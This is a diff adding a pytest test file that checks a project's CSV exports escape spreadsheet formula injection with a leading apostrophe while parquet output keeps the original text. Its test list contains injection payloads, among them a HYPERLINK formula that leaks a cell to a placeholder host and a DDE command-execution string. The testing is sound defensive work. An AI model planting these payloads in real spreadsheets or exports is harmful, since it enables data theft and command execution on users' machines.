@@ -1,0 +1,56 @@
+"""Review findings on the exports: spreadsheet formula injection in the CSV files."""
+
+import pandas as pd
+import pytest
+
+from reja.api import load_documents, load_items
+from reja.batch import run_import
+from reja.export import write_tables
+
+pytestmark = pytest.mark.usefixtures("no_enrichment")
+
+# Texts a district could put in a plan cell that Excel would run as a formula when a clerk opens
+# the CSV (=, +, -, @, tab, CR lead a formula or DDE call).
+HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"ok")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+           "\t=1+1", "- kitob ko'rgazmasi"]
+
+
+@pytest.fixture
+def frames(tmp_path, fp):
+    spec = fp.spec(n=len(HOSTILE))
+    for item, text in zip(spec["items"], HOSTILE, strict=True):
+        item["text"] = text
+    spec["items"][0]["unit"] = "=1+1"
+    fp.write(tmp_path / "in" / "izboskan.docx", spec)
+    db = tmp_path / "reja.sqlite"
+    run_import([tmp_path / "in"], db=db, parse=fp.fake_parse)
+    return load_items(db), load_documents(db)
+
+
+def test_csv_cells_never_start_a_formula_but_parquet_keeps_the_text(frames, tmp_path):
+    items, documents = frames
+    out = tmp_path / "out"
+    write_tables(out, items, documents)
+    csv = pd.read_csv(out / "items.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    for text in csv["text"].tolist() + csv["unit"].tolist():
+        assert text[:1] not in ("=", "+", "-", "@", "\t", "\r"), text
+    # the documented escape: one leading apostrophe, the rest of the text unchanged
+    assert csv["text"].tolist() == ["'" + t for t in HOSTILE]
+    assert csv.loc[0, "unit"] == "'=1+1"
+    # numbers stay numbers (a negative value is not a formula)
+    assert csv["fact_value"].tolist()[:2] == ["1.0", "2.0"]
+    # the canonical data is untouched
+    parquet = pd.read_parquet(out / "items.parquet")
+    assert parquet["text"].tolist() == HOSTILE
+    assert parquet.loc[0, "unit"] == "=1+1"
+
+
+def test_negative_numbers_in_text_columns_are_left_alone(frames, tmp_path):
+    items, documents = frames
+    items = items.copy()
+    items.loc[0, "fact_raw"] = "-5"
+    items.loc[1, "fact_raw"] = "-1,5"
+    out = tmp_path / "out"
+    write_tables(out, items, documents)
+    csv = pd.read_csv(out / "items.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    assert csv["fact_raw"].tolist()[:2] == ["-5", "-1,5"]
